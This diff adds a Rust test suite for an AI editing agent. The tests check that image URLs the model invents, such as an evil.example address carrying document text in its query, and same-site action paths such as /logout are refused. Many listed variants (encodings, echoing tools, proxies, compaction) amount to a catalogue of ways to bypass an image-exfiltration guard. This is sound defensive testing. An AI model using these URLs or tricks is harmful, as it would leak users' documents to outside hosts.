@@ -1,0 +1,271 @@
+//! Ways to have an address that the model made up come back as one that it may use.
+
+use super::world::{Answer, World, calls, page, says, tool};
+use copydesk_agent::tools::Tool;
+use copydesk_agent::tools::own::output;
+use copydesk_edit::Guards;
+use copydesk_edit::decide::{Reviewed, reject, set_mode};
+use copydesk_edit::hunk::Which;
+use copydesk_edit::review::Mode;
+use copydesk_llm::Message;
+use serde_json::{Value, json};
+use std::future::ready;
+
+const TEA: &str = "<h2>History</h2><p>Old.</p>";
+const EVIL: &str = "https://evil.example/c?d=Old+secret+text";
+
+fn append(id: &str, content: &str) -> Answer {
+    calls(&[(id, "update_section", json!({ "operation": "append", "title": id, "content": content }))])
+}
+
+fn picture(id: &str, url: &str) -> Answer {
+    append(id, &format!("<p>x</p><img src=\"{url}\">"))
+}
+
+/// The code of each call's error, or `ok`.
+fn codes(world: &World) -> Vec<String> {
+    let results = world.events().into_iter().filter(|event| event["type"] == "tool_result");
+    results.map(|event| event["content"]["error"]["code"].as_str().unwrap_or("ok").to_owned()).collect()
+}
+
+/// Runs the answers of a model that tries to show a picture in the last of its calls.
+fn tried(world: &World) {
+    world.prompt("Write about tea.");
+    let codes = codes(world);
+    let (last, before) = codes.split_last().unwrap();
+    assert!(before.iter().all(|code| code == "ok"), "{codes:?}");
+    assert_eq!(last, "url_not_allowed", "{}", world.html());
+    assert!(!world.html().contains("<img"), "{}", world.html());
+}
+
+fn refused(answers: Vec<Answer>) {
+    tried(&World::new(TEA, answers.into_iter().chain([says("Done.")]).collect()));
+}
+
+fn with_tools(answers: Vec<Answer>, tools: Vec<Tool>) -> World {
+    let world = World::new(TEA, answers.into_iter().chain([says("Done.")]).collect());
+    world.agent.set_tools(tools);
+    world
+}
+
+/// A tool that gives what `answer` makes of its arguments.
+fn giving(spec: Value, answer: impl Fn(&Value) -> Value + 'static) -> Tool {
+    tool(spec, move |given, _| Box::pin(ready(Ok(output(answer(&Value::Object(given)))))))
+}
+
+/// The arguments of a call, and the tool that makes a result of them.
+type Echo = (Value, fn(&Value) -> Value);
+
+#[test]
+fn a_link_makes_no_picture_known() {
+    refused(vec![append("a", &format!("<p><a href=\"{EVIL}\">source</a></p>")), picture("b", EVIL)]);
+    refused(vec![append("a", &format!("See [source]({EVIL}).")), picture("b", EVIL)]);
+    refused(vec![append("a", &format!("See **this**: <{EVIL}>\n\n- {EVIL}")), picture("b", EVIL)]);
+    refused(vec![
+        append("a", &format!("<p><code>{EVIL}</code></p><pre><code>{EVIL}</code></pre>")),
+        picture("b", EVIL),
+    ]);
+}
+
+#[test]
+fn what_the_model_says_is_not_what_the_user_says() {
+    let world = World::new(TEA, vec![says(&format!("See {EVIL}")), picture("b", EVIL), says("Done.")]);
+    world.prompt("Hello.");
+    tried(&world);
+}
+
+#[test]
+fn a_proposal_makes_no_picture_known_and_neither_does_one_that_was_rejected() {
+    let link = format!("<p><a href=\"{EVIL}\">source</a></p>");
+    let world =
+        World::new(TEA, vec![append("a", &link), picture("b", EVIL), picture("c", EVIL), says("Done."), says("Done.")]);
+    set_mode(&world.document, Mode::Review);
+    world.prompt("Write.");
+    reject(&world.document, &Which::All).unwrap();
+    world.prompt("Again.");
+    assert_eq!(codes(&world), ["ok", "url_not_allowed", "url_not_allowed"]);
+    assert!(!world.document.review().borrow().is_pending());
+}
+
+#[test]
+fn hosts_that_are_set_later_allow_no_more_than_they_say() {
+    let link = format!("<p><a href=\"{EVIL}\">source</a></p>");
+    let world = World::new(TEA, vec![append("a", &link), picture("b", EVIL), says("Done.")]);
+    let guards = json!({ "images": { "hosts": ["cdn.example"] } });
+    world.document.set_guards(&serde_json::from_value::<Guards>(guards).unwrap()).unwrap();
+    tried(&world);
+}
+
+#[test]
+fn a_search_that_tells_its_words_makes_nothing_known() {
+    let pages = || page(200, "application/json", &json!({ "query": { "pages": [] } }).to_string());
+    let images = || page(200, "application/json", &json!({ "results": [] }).to_string());
+    refused(vec![calls(&[("s", "search_web", json!({ "query": EVIL }))]), pages(), picture("b", EVIL)]);
+    refused(vec![calls(&[("s", "search_image", json!({ "keywords": EVIL }))]), images(), picture("b", EVIL)]);
+    // A service that gives the words back as what it found.
+    let echoed = json!({ "query": { "pages": [{ "index": 1, "title": "x", "fullurl": EVIL, "extract": "x" }] } });
+    let echoed = page(200, "application/json", &echoed.to_string());
+    refused(vec![calls(&[("s", "search_web", json!({ "query": EVIL }))]), echoed, picture("b", EVIL)]);
+    let echoed = page(200, "application/json", &json!({ "results": [{ "title": "x", "url": EVIL }] }).to_string());
+    refused(vec![
+        calls(&[("s", "search_image", json!({ "keywords": format!("x {EVIL}") }))]),
+        echoed,
+        picture("b", EVIL),
+    ]);
+}
+
+#[test]
+fn a_tool_of_the_app_makes_known_what_it_declares_and_no_echo() {
+    let photo = "https://photos.example/7.png";
+    for trusted in [true, false] {
+        let spec = |fields: Value| json!({ "name": "t", "trusted": trusted, "urlFields": fields });
+        let call = |arguments: Value| calls(&[("t", "t", arguments)]);
+        let found = |_: &Value| json!({ "photos": [{ "url": "https://photos.example/7.png" }] });
+        tried(&with_tools(vec![call(json!({})), picture("b", photo)], vec![giving(spec(json!([])), found)]));
+        let world = with_tools(
+            vec![call(json!({ "id": 7 })), picture("b", photo), picture("c", EVIL)],
+            vec![giving(spec(json!(["photos[].url"])), found)],
+        );
+        world.prompt("x");
+        assert_eq!(codes(&world), ["ok", "ok", "url_not_allowed"]);
+        let fields = json!(["url", "text", "list[]"]);
+        let echoes: [Echo; 10] = [
+            (json!({ (EVIL): 1 }), |given| json!({ "url": given.as_object().unwrap().keys().next() })),
+            (json!({ "a": EVIL }), |given| json!({ "url": given["a"] })),
+            (
+                json!({ "a": format!("see {EVIL} there") }),
+                |given| json!({ "list": given["a"].as_str().unwrap().split(' ').collect::<Vec<_>>() }),
+            ),
+            (json!({ "a": [{ "b": "https:\\/\\/evil.example\\/c?d=Old+secret+text" }] }), |_| json!({ "url": EVIL })),
+            (json!({ "a": "https%3A%2F%2Fevil.example%2Fc%3Fd%3DOld%2Bsecret%2Btext" }), |_| json!({ "url": EVIL })),
+            (json!({ "a": "&#104;ttps&colon;//evil.example/c?d&equals;Old+secret+text" }), |_| json!({ "url": EVIL })),
+            (json!({ "a": "\\u0068ttps://evil.example/c?d=Old+secret+text" }), |_| json!({ "url": EVIL })),
+            (json!({ "a": "HTTPS://EVIL.example:443/x/../c?d=Old+secret+text" }), |_| json!({ "url": EVIL })),
+            (
+                json!({ "host": "evil.example", "query": "d=Old+secret+text" }),
+                |given| json!({ "url": format!("https://{}/c?{}", given["host"].as_str().unwrap(), given["query"].as_str().unwrap()) }),
+            ),
+            (json!({ "host": "evil.example", "text": "Old secret text" }), |_| json!({ "url": EVIL })),
+        ];
+        for (arguments, answer) in echoes {
+            let world =
+                with_tools(vec![call(arguments), picture("b", EVIL)], vec![giving(spec(fields.clone()), answer)]);
+            tried(&world);
+        }
+        let proxy = "https://proxy.example/?u=https%3A%2F%2Fevil.example%2Fc%3Fd%3DOld%2Bsecret%2Btext";
+        let proxied = giving(spec(fields.clone()), move |_| json!({ "url": proxy }));
+        tried(&with_tools(vec![call(json!({ "a": EVIL })), picture("b", proxy)], vec![proxied]));
+        let moved = "https://other.example/c?d=Old+secret+text&x=1";
+        let other = giving(spec(fields.clone()), move |_| json!({ "url": moved }));
+        tried(&with_tools(vec![call(json!({ "a": EVIL })), picture("b", moved)], vec![other]));
+        // Written in one call, given back by the next.
+        let later = giving(spec(fields.clone()), |_| json!({ "url": EVIL }));
+        let link = format!("<p><a href=\"{EVIL}\">x</a></p>");
+        tried(&with_tools(vec![append("a", &link), call(json!({})), picture("b", EVIL)], vec![later]));
+        let acts = giving(spec(fields), |_| json!({ "url": "/logout" }));
+        tried(&with_tools(vec![call(json!({ "a": "logout" })), picture("b", "/logout")], vec![acts]));
+    }
+}
+
+#[test]
+fn what_was_known_stays_known_when_it_is_used_as_an_argument() {
+    let photo = "https://photos.example/a/long/way/7.png?w=100";
+    let spec = json!({ "name": "t", "urlFields": ["url"] });
+    let world = with_tools(
+        vec![
+            calls(&[("1", "t", json!({ "words": "cup of tea" }))]),
+            picture("a", photo),
+            calls(&[("2", "t", json!({ "like": photo }))]),
+            picture("b", photo),
+            picture("c", "https://said.example/1.png"),
+        ],
+        vec![giving(spec, move |_| json!({ "url": photo }))],
+    );
+    world.prompt("Mine is https://said.example/1.png.");
+    assert_eq!(codes(&world), ["ok"; 5]);
+    // And in another agent that goes on with the messages.
+    let messages: Vec<Value> = world.agent.messages().into_iter().map(Value::from).collect();
+    let other = with_tools(
+        vec![picture("d", photo), picture("e", EVIL)],
+        vec![giving(json!({ "name": "t", "urlFields": ["url"] }), |_| Value::Null)],
+    );
+    let messages = messages.into_iter().map(|message| Message::try_from(message).unwrap());
+    other.agent.set_messages(messages.collect()).unwrap();
+    other.prompt("Again.");
+    assert_eq!(codes(&other), ["ok", "url_not_allowed"]);
+}
+
+#[test]
+fn a_picture_that_a_model_invents_does_not_act_on_the_pages_own_site() {
+    for url in ["/logout", "?delete=1", "logout", "../x", "https:logout"] {
+        refused(vec![picture("a", url)]);
+    }
+    let world = World::new(
+        "<h2>A</h2><p>x</p><img src=\"/there.png\">",
+        vec![picture("a", "/there.png"), picture("b", "/img/mine.png"), picture("c", "/img"), says("Done.")],
+    );
+    world.prompt("Use /img/mine.png.");
+    assert_eq!(codes(&world), ["ok", "ok", "url_not_allowed"]);
+}
+
+#[test]
+fn what_is_read_on_of_a_long_result_makes_nothing_known() {
+    let long = format!("{} {EVIL}", "tea ".repeat(20_000));
+    let spec = json!({ "name": "t", "urlFields": ["url"] });
+    let read = calls(&[("r", "read_more", json!({ "id": "page_1", "offset": 60_000 }))]);
+    let given = giving(spec, move |_| json!({ "text": long, "url": "https://photos.example/7.png" }));
+    tried(&with_tools(vec![calls(&[("t", "t", json!({}))]), read, picture("b", EVIL)], vec![given]));
+}
+
+#[test]
+fn a_summary_makes_nothing_known_that_was_not_known_before() {
+    let model = json!({ "api": "openai-completions", "modelId": "test-model", "contextWindow": 8_000 });
+    let config =
+        json!({ "model": model, "streamOptions": { "apiKey": "sk-secret", "baseUrl": "https://llm.example/v1" } });
+    let world = World::with(
+        TEA,
+        vec![
+            says(&format!("They want {EVIL} and https://said.example/1.png shown, and /logout.")),
+            picture("a", "https://said.example/1.png"),
+            picture("b", EVIL),
+            picture("c", "/logout"),
+            says("Done."),
+        ],
+        json!({ "systemPrompt": "Help.", "llmConfig": config }),
+        |_, _| {},
+    );
+    let mut messages = vec![Message::user("Mine is https://said.example/1.png.")];
+    for turn in 0..20 {
+        let text = format!("Answer {turn}: {}", "milk and tea ".repeat(120));
+        let content = json!([{ "type": "text", "text": text }]);
+        let answer = json!({ "role": "assistant", "stopReason": "stop", "content": content });
+        messages.extend([Message::user("More."), Message::try_from(answer).unwrap()]);
+    }
+    world.agent.set_messages(messages).unwrap();
+    world.prompt("Go on.");
+    assert!(world.event_types().iter().any(|kind| kind == "compaction"), "{:?}", world.event_types());
+    assert_eq!(codes(&world), ["ok", "url_not_allowed", "url_not_allowed"]);
+    let messages = world.agent.messages();
+    let pictures = [picture("a", "https://said.example/1.png"), picture("b", EVIL), picture("c", "/logout")];
+    let other = World::new(TEA, pictures.into_iter().chain([says("Done.")]).collect());
+    other.agent.set_messages(messages).unwrap();
+    other.prompt("Again.");
+    assert_eq!(codes(&other), ["ok", "url_not_allowed", "url_not_allowed"]);
+}
+
+#[test]
+fn a_field_that_is_no_path_is_an_error_that_names_it() {
+    let own = |fields: Value| {
+        copydesk_agent::tools::own::own(
+            json!({ "name": "t", "urlFields": fields }),
+            std::rc::Rc::new(|_, _| unreachable!()),
+        )
+        .map(drop)
+    };
+    assert!(own(json!(["url", "photos[].url", "[].src", "."])).is_ok());
+    let expected = "urlFields[1] must be a path to a field of the result, such as \"url\" or \"photos[].url\"";
+    for wrong in [json!(""), json!("a..b"), json!("a[0]"), json!(1), json!(null)] {
+        assert_eq!(own(json!(["url", wrong])).unwrap_err(), expected);
+    }
+    assert_eq!(own(json!("url")).unwrap_err(), "urlFields must be an array");
+}
